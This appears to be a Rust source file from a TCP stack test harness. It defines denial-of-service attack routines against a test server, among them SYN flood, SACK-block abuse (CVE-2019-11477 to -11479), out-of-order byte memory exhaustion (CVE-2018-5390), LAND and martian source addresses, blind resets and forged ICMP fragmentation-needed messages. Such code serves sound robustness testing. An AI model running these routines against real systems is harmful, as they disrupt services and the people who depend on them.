//! Attacks, each on a known weakness of TCP stacks.

use std::net::{Ipv4Addr, Ipv6Addr};
use std::time::Duration;

use lowtide_live::load::{Amount, TransferDirection, TransferRequest};
use lowtide_wire::checksum::Checksum;
use lowtide_wire::ipv4::{self, Ipv4Header};
use lowtide_wire::ipv6::{self, Ipv6Header};
use lowtide_wire::{Ecn, Flags, Options, SackBlocks, Segment, SeqNum};

use crate::attacker::{Attacker, Peer, SERVER, host, to_server};
use crate::trial::attack;

/// Idle gap that ends a burst.
const ROUND: Duration = Duration::from_millis(3);

/// Options of an ordinary SYN.
fn ordinary() -> Options {
    Options { mss: Some(1460), window_scale: Some(7), sack_permitted: true, ..Options::default() }
}

/// Port of the connection number `n`; an address and port repeat after six million connections.
fn port(n: u64) -> u16 {
    1024 + (n / 200 % 30_000) as u16
}

/// Opens a new connection; `None` after 50 refusals or at the end of the packets.
fn open(net: &mut Attacker<'_>, number: &mut u64, options: Options) -> Option<Peer> {
    for _ in 0..50 {
        *number += 1;
        if let Some(peer) = net.open(host(*number), port(*number), options) {
            return Some(peer);
        }
        if !net.has_packets_left() {
            break;
        }
    }
    None
}

/// Requests a download of 1 GiB over `peer`, whose window the attacker then controls.
fn download(net: &mut Attacker<'_>, peer: &mut Peer, window: u16) {
    let amount = Amount::Bytes(1 << 30);
    let request = TransferRequest {
        direction: TransferDirection::Down,
        amount,
        seed: 1,
        write_size: 128 << 10,
    };
    let bytes = request.to_bytes();
    let segment = Segment {
        payload_len: bytes.len() as u32,
        flags: Flags::ACK | Flags::PSH,
        ..peer.ack(window)
    };
    net.segment_with(peer.host, &segment, &bytes);
    peer.seq = peer.seq.add(bytes.len() as u64);
}

/// One byte of `peer`, `offset` bytes into the window.
fn byte_at(peer: &Peer, offset: u64) -> Segment {
    let seq = peer.seq.add(offset);
    Segment { seq, payload_len: 1, flags: Flags::ACK | Flags::PSH, ..peer.ack(u16::MAX) }
}

/// One byte at the right edge of the window: large receive buffers.
pub(crate) fn right_edge() {
    attack("right-edge", &[], |net| {
        let mut number = 0;
        while net.has_packets_left() {
            let Some(peer) = open(net, &mut number, ordinary()) else { break };
            net.segment(peer.host, &byte_at(&peer, u64::from(peer.window) - 1));
        }
    });
}

/// Single bytes at odd offsets over 60 connections: memory and search per out-of-order segment
/// (CVE-2018-5390).
pub(crate) fn scattered_bytes() {
    attack("scattered-bytes", &[], |net| {
        let mut number = 0;
        let peers: Vec<_> = (0..60).filter_map(|_| open(net, &mut number, ordinary())).collect();
        assert!(!peers.is_empty());
        while net.has_packets_left() {
            let draw = net.draw();
            let peer = peers[(draw % peers.len() as u64) as usize];
            let offset = 1 + 2 * ((draw >> 32) % (u64::from(peer.window) / 2 - 1));
            net.segment(peer.host, &byte_at(&peer, offset));
        }
    });
}

/// Established connections that never send: threads and buffers.
pub(crate) fn idle_connections() {
    attack("idle-connections", &[], |net| {
        let mut number = 0;
        while net.has_packets_left() && open(net, &mut number, ordinary()).is_some() {}
    });
}

/// SYNs from addresses that do not answer (RFC 4987).
pub(crate) fn syn_flood() {
    attack("syn-flood", &[], |net| {
        while net.has_packets_left() {
            let draw = net.draw();
            let from = Ipv4Addr::from(0xc612_0000 | draw as u32 & 0x1_ffff);
            let syn = Segment {
                seq: SeqNum::new((draw >> 32) as u32),
                flags: Flags::SYN,
                window: u16::MAX,
                options: ordinary(),
                ..to_server((draw >> 16) as u16 | 1)
            };
            net.segment(from, &syn);
        }
    });
}

/// MSS 1 in the SYN, a large window, then repeated large SACK blocks (CVE-2019-11477 to -11479).
pub(crate) fn sack_blocks() {
    attack("sack-blocks", &["-s", "send-buffer=4 MB"], |net| {
        let options = Options { mss: Some(1), window_scale: Some(14), ..ordinary() };
        let mut number = 0;
        let Some(mut peer) = open(net, &mut number, options) else { panic!("it is refused") };
        let first = peer.ack;
        download(net, &mut peer, u16::MAX);
        // ACKs of received data let the window grow first.
        let mut highest = first;
        while net.has_packets_left() {
            while let Some((_, segment)) = net.receive(ROUND) {
                if segment.dst_port == peer.port && highest.before(segment.seq_end()) {
                    highest = segment.seq_end();
                }
            }
            let flight = highest.diff(peer.ack).max(0) as u64;
            if flight < 100_000 && highest.diff(first) < 20_000_000 {
                peer.ack = highest;
                net.segment(peer.host, &peer.ack(u16::MAX));
                continue;
            }
            for i in 0..200 {
                let mut sack = SackBlocks::EMPTY;
                for block in 0..4 {
                    let (start, end) = (flight * (2 * block + 1) / 9, flight * (2 * block + 2) / 9);
                    sack.push(peer.ack.add(start + i % 2), peer.ack.add(end));
                }
                let options = Options { sack, ..Options::default() };
                net.segment(peer.host, &Segment { options, ..peer.ack(u16::MAX) });
            }
        }
    });
}

/// Duplicate ACKs without SACK in the middle of a download: new data for each (RFC 5681 §3.2).
pub(crate) fn duplicate_acks() {
    attack("duplicate-acks", &[], |net| {
        let options = Options { sack_permitted: false, ..ordinary() };
        let mut number = 0;
        let Some(mut peer) = open(net, &mut number, options) else { panic!("it is refused") };
        download(net, &mut peer, 4096);
        while net.has_packets_left() {
            net.segment(peer.host, &peer.ack(4096));
        }
    });
}

/// Segments outside of the window and ACKs of unsent data: an answer to each (RFC 5961 §5).
pub(crate) fn forged_segments() {
    attack("forged-segments", &["--profile", "rfc"], |net| {
        let mut number = 0;
        let Some(peer) = open(net, &mut number, ordinary()) else { panic!("it is refused") };
        while net.has_packets_left() {
            let draw = net.draw();
            let beyond = 1 << 30 | draw as u32 & 0xffff;
            let forged = if draw >> 63 == 0 {
                Segment { seq: peer.seq.add(u64::from(beyond)), ..byte_at(&peer, 0) }
            } else {
                Segment { ack: peer.ack.add(u64::from(beyond)), ..peer.ack(u16::MAX) }
            };
            net.segment(peer.host, &forged);
        }
    });
}

/// Downloads behind a closed window, by clients that sent a FIN and keep sending ACKs
/// (CVE-2008-4609).
pub(crate) fn closed_windows() {
    attack("closed-windows", &[], |net| {
        let (mut number, mut peers) = (0, Vec::<Peer>::new());
        while net.has_packets_left() {
            if peers.len() < 2_000 {
                let Some(mut peer) = open(net, &mut number, ordinary()) else { break };
                download(net, &mut peer, 0);
                net.segment(peer.host, &Segment { flags: Flags::ACK | Flags::FIN, ..peer.ack(0) });
                peer.seq = peer.seq.add(1);
                peers.push(peer);
            } else {
                let draw = net.draw();
                let peer = peers[(draw % peers.len() as u64) as usize];
                net.segment(peer.host, &peer.ack(0));
            }
        }
    });
}

/// Invalid source addresses, and the server's own (LAND; RFC 1122 §3.2.1.3, RFC 9293 MUST-63).
pub(crate) fn martian_sources() {
    const SOURCES: [[u8; 4]; 8] = [
        [10, 77, 0, 2],
        [10, 77, 0, 255],
        [127, 0, 0, 1],
        [224, 0, 0, 1],
        [240, 0, 0, 1],
        [255, 255, 255, 255],
        [0, 0, 0, 1],
        [10, 77, 0, 0],
    ];
    attack("martian-sources", &[], |net| {
        while net.has_packets_left() {
            let draw = net.draw();
            let from = Ipv4Addr::from(SOURCES[(draw % 8) as usize]);
            let syn = Segment {
                seq: SeqNum::new((draw >> 32) as u32),
                flags: Flags::SYN,
                window: u16::MAX,
                options: ordinary(),
                ..to_server(if draw & 8 == 0 { 5201 } else { port(draw >> 8) })
            };
            net.segment(from, &syn);
        }
    });
}

/// Chains of IPv6 extension headers, valid and damaged (RFC 8200 §4).
pub(crate) fn extension_headers() {
    const KINDS: [u8; 4] = [0, 43, 44, 60];
    attack("extension-headers", &[], |net| {
        while net.has_packets_left() {
            let draw = net.draw();
            let mut payload = Vec::new();
            let headers = draw % 100;
            for i in 0..headers {
                let next =
                    if i + 1 == headers { 6 } else { KINDS[(draw >> (i % 60) & 3) as usize] };
                payload.extend([next, 0, 1, 4, 0, 0, 0, (draw >> 56) as u8 & 4]);
            }
            payload.extend((draw as u32).to_be_bytes().repeat(6));
            let src = Ipv6Addr::from(0xfd77_u128 << 112 | u128::from(draw >> 32) << 8 | 9);
            let dst = Ipv6Addr::from(0xfd77_u128 << 112 | 2);
            let next_header = if headers == 0 { 6 } else { KINDS[(draw >> 8 & 3) as usize] };
            let header = Ipv6Header { next_header, ..Ipv6Header::tcp(src, dst, Ecn::NotEct) };
            let mut bytes = ipv6::emit(&header, payload.len()).unwrap().to_vec();
            bytes.extend(payload);
            net.send(&bytes);
        }
    });
}

/// Random bytes behind an IP header, random control bits and options.
pub(crate) fn garbage() {
    attack("garbage", &[], |net| {
        let mut number = 0;
        let peer = open(net, &mut number, ordinary()).unwrap();
        while net.has_packets_left() {
            let draw = net.draw();
            if draw & 1 == 0 {
                let flags = Flags::from_bits((draw >> 8) as u16);
                let seq = peer.seq.add(draw >> 40);
                let near = Segment { flags, seq, payload_len: draw as u32 & 0xff, ..peer.ack(9) };
                net.segment(peer.host, &near);
            } else {
                let len = 8 + (draw >> 8 & 0x3f) as usize;
                let payload: Vec<u8> = (0..len).map(|_| net.draw() as u8).collect();
                let header = Ipv4Header::tcp(host(draw >> 32), SERVER, Ecn::NotEct);
                let mut bytes = ipv4::emit(&header, len).unwrap().to_vec();
                bytes.extend(payload);
                net.send(&bytes);
            }
        }
    });
}

/// A download with windows of one byte (RFC 9293 §3.8.6.2.1).
pub(crate) fn tiny_window() {
    attack("tiny-window", &[], |net| {
        let options = Options { window_scale: None, ..ordinary() };
        let mut number = 0;
        let Some(mut peer) = open(net, &mut number, options) else { panic!("it is refused") };
        download(net, &mut peer, 1);
        while net.has_packets_left() {
            while let Some((_, segment)) = net.receive(ROUND) {
                if segment.dst_port == peer.port && peer.ack.before(segment.seq_end()) {
                    peer.ack = segment.seq_end();
                }
            }
            for _ in 0..20 {
                net.segment(peer.host, &peer.ack(1));
            }
        }
    });
}

/// RST and SYN with sequence numbers in the window (RFC 5961 §3, §4).
pub(crate) fn blind_resets() {
    attack("blind-resets", &[], |net| {
        let mut number = 0;
        let Some(peer) = open(net, &mut number, ordinary()) else { panic!("it is refused") };
        while net.has_packets_left() {
            let draw = net.draw();
            let flags = if draw & 1 == 0 { Flags::RST } else { Flags::SYN };
            let seq = peer.seq.add(1 + (draw >> 16) % u64::from(peer.window.max(2) - 1));
            net.segment(peer.host, &Segment { flags, seq, ..peer.ack(9) });
        }
    });
}

/// ICMP "fragmentation needed" that quotes a download (RFC 1191, RFC 5927 §7).
pub(crate) fn forged_icmp() {
    attack("forged-icmp", &[], |net| {
        let mut number = 0;
        let Some(mut peer) = open(net, &mut number, ordinary()) else { panic!("it is refused") };
        let una = peer.ack;
        download(net, &mut peer, u16::MAX);
        while net.has_packets_left() {
            let draw = net.draw();
            let mtu = (draw >> 16) as u16 % 1500;
            let mut icmp = vec![3, 4, 0, 0, 0, 0, (mtu >> 8) as u8, mtu as u8];
            icmp.extend(
                ipv4::emit(&Ipv4Header::tcp(SERVER, peer.host, Ecn::NotEct), 1000).unwrap(),
            );
            icmp.extend(5201_u16.to_be_bytes());
            icmp.extend(peer.port.to_be_bytes());
            icmp.extend(una.add(draw % 14_000).raw().to_be_bytes());
            let sum = Checksum::new().with(&icmp).finish();
            icmp[2..4].copy_from_slice(&sum.to_be_bytes());
            let header =
                Ipv4Header { protocol: 1, ..Ipv4Header::tcp(host(9), SERVER, Ecn::NotEct) };
            let mut bytes = ipv4::emit(&header, icmp.len()).unwrap().to_vec();
            bytes.extend(icmp);
            net.send(&bytes);
        }
    });
}
